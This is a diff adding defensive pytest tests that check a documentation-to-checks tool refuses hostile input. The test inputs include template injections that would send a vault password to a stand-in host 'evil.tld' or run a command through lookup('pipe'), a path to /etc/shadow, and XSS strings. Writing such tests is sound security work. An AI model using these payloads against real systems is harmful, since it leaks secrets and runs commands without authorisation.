@@ -82,3 +82,39 @@ def test_a_command_that_changes_something_never_becomes_a_check(command: str) ->
         made = _proposal(Case(line=line, want=""))
         assert made.kind in ("step", "review", "attestation"), made
         assert not made.check
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "`https://{{ vault_password }}.evil.tld/` answers",
+        "`{{ lookup('pipe', 'id') }}` is set",
+        "`KEY={{ vault_password }}` is set",
+        "Look: `curl https://a.tld/{{ vault_password }}`",
+        "`/srv/{% for x in y %}` exists",
+    ],
+)
+def test_a_template_in_a_document_never_becomes_one_of_ours(line: str) -> None:
+    made = _proposal(Case(line=line, want=""))
+    assert "vault_password }}" not in str(made.given)
+    assert "lookup" not in str(made.given)
+    assert "{%" not in str(made.given)
+
+
+def test_a_path_that_leads_out_of_the_project_is_for_a_person_to_decide() -> None:
+    made = _proposal(Case(line="`../../etc/shadow` exists", want=""))
+    assert (made.kind, made.check) == ("review", "")
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "<script>alert(1)</script>",
+        "[x](javascript:alert(1)) is up",
+        "`" * 300,
+        "(" * 500,
+        "가" * 500,
+    ],
+)
+def test_odd_text_is_a_line_like_any_other(line: str) -> None:
+    assert _proposal(Case(line=line, want="")).reason
